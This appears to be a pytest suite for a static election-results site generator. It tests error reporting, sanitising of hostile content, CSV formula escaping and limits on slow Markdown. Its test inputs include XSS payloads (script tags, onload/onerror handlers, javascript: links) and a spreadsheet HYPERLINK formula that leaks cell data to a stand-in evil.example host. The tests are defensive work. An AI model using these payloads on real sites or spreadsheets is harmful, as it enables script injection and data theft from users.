"""Every kind of bad input: exact messages with file:line:col, exit 1, no traceback, dist/ untouched."""
from __future__ import annotations

import base64
import csv
import io
import json
import os
import re
import shutil
from pathlib import Path

import pytest

from sitegen.cli import main
from tests.bad_inputs import BAD, HOSTILE
from tests.conftest import PROJECT, parse, read_tree, small_project_at

SUMMARY = re.compile(r"^\d+ errors? in \d+ files?; nothing written\.$")


@pytest.fixture(scope="module")
def built_project(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A project root with the small fixture as content/, built once so dist/ exists."""
    root = small_project_at(tmp_path_factory.mktemp("built") / "project")
    assert main([], root=root, out=io.StringIO(), err=io.StringIO()) == 0
    return root


@pytest.fixture
def small_project(built_project: Path, tmp_path: Path) -> Path:
    """A copy of the built project for one test to spoil (copying is cheaper than building)."""
    root = tmp_path / "project"
    shutil.copytree(built_project, root, symlinks=True, ignore=shutil.ignore_patterns(".cache"))
    return root


def run(root: Path, *argv: str) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    code = main(list(argv), root=root, out=out, err=err)
    return code, out.getvalue(), err.getvalue()


def test_every_case_is_a_different_mistake() -> None:
    """No two cases pin the same message: each tests something the others do not."""
    firsts = [expected[0] for _, expected in BAD.values()]
    assert len(firsts) == len(set(firsts)), [m for m in firsts if firsts.count(m) > 1]


@pytest.fixture
def source_copy(tmp_path: Path) -> Path:
    """The small fixture's sources, to spoil (no dist/ yet: the check writes nothing anyway)."""
    return small_project_at(tmp_path / "project")


@pytest.mark.parametrize("case", sorted(BAD))
def test_bad_input_is_reported_with_its_message(source_copy: Path, case: str) -> None:
    """What `check` and `build` both run first (engine.gather), on each bad input: every message,
    exactly, and nothing else."""
    from sitegen.config import Paths
    from sitegen.engine import gather
    from sitegen.errors import ContentErrors
    from sitegen.workers import Executor
    change, expected = BAD[case]
    change(source_copy)
    with pytest.raises(ContentErrors) as caught:  # on one core: no templates compiled alongside
        gather(Paths.from_root(source_copy, cache=source_copy / ".cache"), executor=Executor(1))
    assert [e.format() for e in caught.value.errors] == expected
    assert SUMMARY.match(caught.value.summary())


# A case of each kind of failure, from the command line: the loader, a field, the rules across
# files, a template, and the post-render check. The rest fail in the same gather (above).
END_TO_END = ["yaml-unclosed-flow", "type-word-for-number", "file-orphan-blurb", "template-syntax-error",
              "key-missing-required", "name-mojibake"]


@pytest.mark.parametrize("case", END_TO_END)
def test_bad_input_exits_1_and_nothing_is_written(small_project: Path, case: str) -> None:
    change, expected = BAD[case]
    before = read_tree(small_project / "dist")
    change(small_project)
    for command in ("check", "build"):
        code, out, err = run(small_project, command)
        lines = err.splitlines()
        assert (code, out) == (1, "")
        assert "Traceback" not in err
        assert lines[:-1] == expected
        assert SUMMARY.match(lines[-1]), lines[-1]
    assert read_tree(small_project / "dist") == before
    assert sorted(p.name for p in small_project.iterdir() if p.name != ".cache") == ["content", "dist", "static", "templates"]


def test_errors_are_all_reported_at_once_sorted_by_file_and_line(small_project: Path) -> None:
    BAD["party-unknown"][0](small_project)
    BAD["number-negative-votes"][0](small_project)
    BAD["file-orphan-blurb"][0](small_project)
    BAD["site-date-in-words"][0](small_project)
    code, _, err = run(small_project, "check")
    assert code == 1
    assert err.splitlines() == [
        "content/constituencies/amber-valey.md:1: blurb has no matching amber-valey.yml (did you mean 'amber-valley.md'?)",
        "content/constituencies/amber-valley.yml:14:35: candidates[1].party: unknown party 'refrom' (did you mean 'reform'?)",
        "content/constituencies/amber-valley.yml:14:50: candidates[1].votes: expected a whole number >= 0, got -3",
        "content/site.yml:3:14: polling_day: expected a date like 2024-07-04, got '4 July 2024'",
        "4 errors in 3 files; nothing written.",
    ]


# 404.html's icon, in the page (served at any address, it cannot link a file): exactly the site's own.
NOT_FOUND_ICON = "data:image/svg+xml;base64," + base64.b64encode((PROJECT / "static" / "favicon.svg").read_bytes()).decode()

# 404.html's script (it finds the site's root wherever the page is served), exactly as written.
NOT_FOUND_SCRIPT = re.search(r"<script>(.*?)</script>", (PROJECT / "templates" / "404.html").read_text(),
                             re.S).group(1).strip()


def assert_nothing_executable(files: dict[str, bytes]) -> None:
    for name, body in files.items():
        if not name.endswith(".html"):
            continue
        page = parse(body)
        assert page.find_all(["iframe", "object", "embed"]) == [], name
        for script in page.find_all("script"):  # only our own fingerprinted files, no inline code
            if name == "404.html" and not script.has_attr("src"):  # but 404.html's own, from its template
                assert script.get_text().strip() == NOT_FOUND_SCRIPT, name
                continue
            assert re.fullmatch(r"(\.\./)*assets/(sort|live|embed|search|copy)\.[0-9a-f]{10}\.js", script["src"]), (name, script)
            assert script.get_text() == ""
        styles = page.find_all("style")
        assert name == "404.html" or styles == [], name
        for tag in page.find_all(True):
            for attribute, value in tag.attrs.items():
                assert not attribute.lower().startswith("on"), (name, tag)
                if attribute in ("href", "src"):
                    if name == "404.html" and tag.name == "link" and tag.get("rel") == ["icon"]:
                        assert value == NOT_FOUND_ICON, (name, tag)
                        continue
                    assert not value.strip().lower().startswith(("javascript:", "data:", "vbscript:")), (name, tag)


@pytest.mark.parametrize("case", sorted(HOSTILE))
def test_hostile_content_builds_but_nothing_executable_reaches_the_output(small_project: Path, case: str) -> None:
    HOSTILE[case](small_project)
    code, _, err = run(small_project, "build")
    assert code == 0, err
    files = read_tree(small_project / "dist")
    assert_nothing_executable(files)
    if case == "script-in-candidate-name":
        page = parse(files["amber-valley/index.html"])
        names = [row.find("th").find("span", class_="cand").contents[0].strip() for row in page.select("table.result tbody tr")]
        assert "<script>alert('x')</script>" in names  # shown as text, not run
        assert "<script>alert('x')</script>" in files["results.json"].decode()
    if case == "handler-in-party-name":
        assert '"><svg onload=alert(1)>' in parse(files["amber-valley/index.html"]).get_text()
    if case == "bom-and-crlf":
        prose = parse(files["amber-valley/index.html"]).find("section", class_="prose")
        assert prose.find("p").get_text() == "First line\nsecond line"


def test_links_in_blurbs_open_safely(small_project: Path) -> None:
    code, _, _ = run(small_project, "build")
    page = parse((small_project / "dist" / "index.html").read_bytes())
    link = page.find("section", class_="prose").find("a")
    assert link["href"] == "https://example.org/data"
    assert "noopener" in link["rel"]


def test_an_editors_lock_files_are_passed_over(small_project: Path) -> None:
    """Emacs keeps `.#name` lock files: symbolic links to nowhere. The build (and its fingerprint)
    pass them over, as the loader does any dot-file in constituencies/."""
    for folder in ("content/constituencies", "templates", "static"):
        os.symlink("editor@host.4242:1733100000", small_project / folder / ".#amber-valley.yml")
    warning = ("content/constituencies/chesterfield.yml: warning: has no blurb; add chesterfield.md "
               "beside it to describe the result\n")  # the fixture's own, and nothing else
    for command in ("check", "build"):
        code, out, err = run(small_project, command)
        assert (code, err) == (0, warning)


def test_a_formula_in_a_name_reaches_the_csv_files_as_text(small_project: Path) -> None:
    """A spreadsheet runs a cell starting =, +, -, @, tab or return as a formula; the CSV files give
    such text cells a leading apostrophe (docs/DATA.md). The pages and results.json keep the text."""
    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Kate Smith")'
    typed = 'name: "=HYPERLINK(\\"https://evil.example/?leak=\\"&A1,\\"Kate Smith\\")"'
    seat = small_project / "content/constituencies/amber-valley.yml"
    seat.write_text(seat.read_text().replace("name: Kate Smith", typed))
    parties = small_project / "content/parties.yml"
    parties.write_text(parties.read_text().replace("name: Reform UK", "name: '@Reform UK'"))
    assert run(small_project, "build")[0] == 0
    rows = list(csv.DictReader(io.StringIO((small_project / "dist/results.csv").read_text())))
    assert [r["candidate"] for r in rows if r["constituency_slug"] == "amber-valley"][-1] == "'" + formula
    assert {r["party"] for r in rows if r["party_id"] == "reform"} == {"'@Reform UK"}
    county = list(csv.DictReader(io.StringIO((small_project / "dist/county.csv").read_text())))
    assert {r["party"] for r in county if r["party_id"] == "reform"} == {"'@Reform UK"}
    names = [c["name"] for s in json.loads((small_project / "dist/results.json").read_text())["constituencies"]
             for c in s["candidates"]]
    assert formula in names


def test_files_that_look_like_content_but_are_skipped_are_named(small_project: Path) -> None:
    """A hidden seat file or an editor's backup copy is skipped with a warning naming it, so a
    seat never vanishes without a word; editors' swap, lock and temporary files pass quietly."""
    folder = small_project / "content/constituencies"
    seat = (folder / "amber-valley.yml").read_text()
    for name in (".derby-west.yml", "amber-valley.yml~", "amber-valley.yml.bak", ".amber-valley.md"):
        (folder / name).write_text(seat)
    for name in (".amber-valley.yml.swp", "4913", "#amber-valley.yml#", "amber-valley.yml.tmp"):
        (folder / name).write_text("an editor's own")
    code, _, err = run(small_project, "check")
    assert code == 0
    assert err.splitlines() == [
        "content/constituencies/.amber-valley.md: warning: is skipped because its name starts with '.'; rename it to 'amber-valley.md' to publish it",
        "content/constituencies/.derby-west.yml: warning: is skipped because its name starts with '.'; rename it to 'derby-west.yml' to publish it",
        "content/constituencies/amber-valley.yml.bak: warning: looks like an editor's backup copy, so it is skipped",
        "content/constituencies/amber-valley.yml~: warning: looks like an editor's backup copy, so it is skipped",
        "content/constituencies/chesterfield.yml: warning: has no blurb; add chesterfield.md beside it to describe the result",
    ]


def test_raw_html_that_cleaning_removes_gets_a_warning(small_project: Path) -> None:
    (small_project / "content/overview.md").write_text(
        "Plain `<script>` in code is shown, not removed.\n\nHi <script>alert(1)</script> there\n\n"
        "<img src=x onerror=\"alert(1)\"> and [x](javascript:alert(1)) and <abbr title=\"kept\">MP</abbr>\n")
    code, _, err = run(small_project, "check")
    assert code == 0
    assert err.splitlines() == [
        "content/constituencies/chesterfield.yml: warning: has no blurb; add chesterfield.md beside it to "
        "describe the result",
        "content/overview.md:3: warning: <script>, <img>, an event handler (on...=) and a script link "
        "(javascript:) are removed when published: blurbs keep plain formatting, links, tables and the "
        "HTML listed in docs/CONTENT.md",
    ]


def test_a_declaration_days_after_polling_day_gets_a_warning_and_the_boundaries_hold(small_project: Path) -> None:
    """Polls close at 22:00 UK time (BST in July): 21:00 UTC is the first moment a result can come;
    more than three days after polling day is worth a look, more than thirty is refused."""
    seat = small_project / "content/constituencies/amber-valley.yml"
    text = seat.read_text()
    for moment, expected in (
            ("2024-07-04T21:00:00+00:00", []),
            ("2024-07-07T23:59:00+01:00", []),
            ("2024-07-08T00:30:00+01:00", ["content/constituencies/amber-valley.yml:6:14: warning: declared_at: "
                                           "2024-07-08T00:30:00+01:00 is 4 days after polling day (2024-07-04); "
                                           "check the date"])):
        seat.write_text(text.replace("rejected: 105", f"rejected: 105\ndeclared_at: {moment}"))
        code, _, err = run(small_project, "check")
        assert code == 0
        assert [line for line in err.splitlines() if "declared_at" in line] == expected
    seat.write_text(text.replace("rejected: 105", "rejected: 105\ndeclared_at: 2024-08-04T01:00:00+01:00"))
    assert run(small_project, "check")[0] == 1  # 31 days


def test_the_uk_offset_follows_summer_time() -> None:
    from datetime import date, timedelta

    from sitegen.content.checks import uk_offset
    # 2024: BST from Sunday 31 March to Sunday 27 October; 2019's December election was in GMT
    assert [uk_offset(date(*d)) for d in ((2024, 3, 30), (2024, 3, 31), (2024, 7, 4), (2024, 10, 26),
                                          (2024, 10, 27), (2019, 12, 12))] == [
        timedelta(0), timedelta(hours=1), timedelta(hours=1), timedelta(hours=1), timedelta(0), timedelta(0)]


# Markdown built to be slow: Python-Markdown reads each '[', '![' or '<' left open to the end of its
# paragraph again (20,000 characters of '![x' took 16.5 s; 960 KB of unclosed '[' ran for hours).
SLOW_MARKDOWN = {"unclosed images": "![x", "unclosed links": "Some text [with a bracket and no close. ",
                 "nested brackets": "[", "unclosed tags": "<a ", "unclosed link targets": "[a](b "}


@pytest.mark.parametrize("pattern", sorted(SLOW_MARKDOWN))
def test_markdown_built_to_be_slow_stops_with_a_message_naming_the_blurb(
        small_project: Path, pattern: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import time

    from sitegen.site import markdown
    monkeypatch.setattr(markdown, "BLURB_SECONDS", 0.5)  # (2 s in a build; the rule is the same)
    text = SLOW_MARKDOWN[pattern] * (99_000 // len(SLOW_MARKDOWN[pattern]))
    (small_project / "content/constituencies/amber-valley.md").write_text(text)
    started = time.perf_counter()
    code, _, err = run(small_project, "--jobs", "1")
    assert time.perf_counter() - started < 5
    assert (code, err) == (1, "content/constituencies/amber-valley.md: took more than 0.5 seconds to turn into "
                              "HTML, far longer than any blurb needs: Markdown with many '[', '![' or '<' left "
                              "open is read slowly; close them, or write them as \\[ and &lt;\n"
                              "1 error in 1 file; nothing written.\n")


def test_the_check_for_raw_html_takes_time_in_step_with_the_blurb() -> None:
    """`<!--` repeated made the event-handler pattern scan to the end from every '<' (99 KB: about
    ten seconds); it now stops at the next '<'."""
    import time

    from sitegen.site.markdown import removed_html
    started = time.perf_counter()
    assert removed_html("<!--" * 24_000 + "<p onclick=x>") == (1, ("an event handler (on...=)",))
    assert time.perf_counter() - started < 1  # by hand: 0.01 s; before, 0.4 s at a fifth of the size


def test_a_blurb_link_from_the_sites_root_works_wherever_the_site_is_published(small_project: Path) -> None:
    """'/chesterfield/' was published as written: under a sub-path (https://example.org/derbyshire-2024/)
    it led to the host's root, not the seat."""
    (small_project / "content/constituencies/amber-valley.md").write_text(
        "See [Chesterfield](/chesterfield/), [the map](/#map-heading), [the feed](/feed.xml) "
        "and [another site](//example.org/x) or [this one](https://example.org/).\n")
    (small_project / "content/overview.md").write_text("See [Amber Valley](/amber-valley/#result-heading).\n")
    code, _, err = run(small_project)
    assert code == 0, err
    seat = parse((small_project / "dist/amber-valley/index.html").read_text())
    links = {a.get_text(): a["href"] for a in seat.select("section.prose a")}
    assert links == {"Chesterfield": "../chesterfield/", "the map": "../#map-heading", "the feed": "../feed.xml",
                     "another site": "//example.org/x", "this one": "https://example.org/"}
    overview = parse((small_project / "dist/index.html").read_text())
    assert [a["href"] for a in overview.select("section.prose a")] == ["amber-valley/#result-heading"]
